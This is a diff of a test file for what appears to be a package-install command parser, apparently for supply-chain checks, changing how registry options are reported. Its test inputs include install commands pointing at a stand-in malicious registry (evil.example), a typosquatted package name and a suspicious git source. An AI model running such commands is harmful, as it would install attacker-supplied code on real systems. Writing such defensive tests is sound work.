@@ -48,8 +48,8 @@ test('option values are not packages; aliases and sources name what is really in
     [
       'npm install --registry https://evil.example lodash',
       [
-        ['npm', 'https://evil.example'],
         ['npm', 'lodash'],
+        ['npm', '--registry=https://evil.example'],
       ],
     ],
     ['uv pip install reqeusts', [['pypi', 'reqeusts']]],
@@ -57,8 +57,8 @@ test('option values are not packages; aliases and sources name what is really in
     [
       'pip install -i https://evil.example/simple requests',
       [
-        ['pypi', 'https://evil.example/simple'],
         ['pypi', 'requests'],
+        ['pypi', '-i=https://evil.example/simple'],
       ],
     ],
     ['pip install git+https://github.com/evil/pkg', [['pypi', 'git+https://github.com/evil/pkg']]],
@@ -67,7 +67,7 @@ test('option values are not packages; aliases and sources name what is really in
       'cargo add tokio --registry corp',
       [
         ['crates', 'tokio'],
-        ['crates', 'registry:corp'],
+        ['crates', '--registry=corp'],
       ],
     ],
     ['cargo install ripgrep', [['crates', 'ripgrep']]],
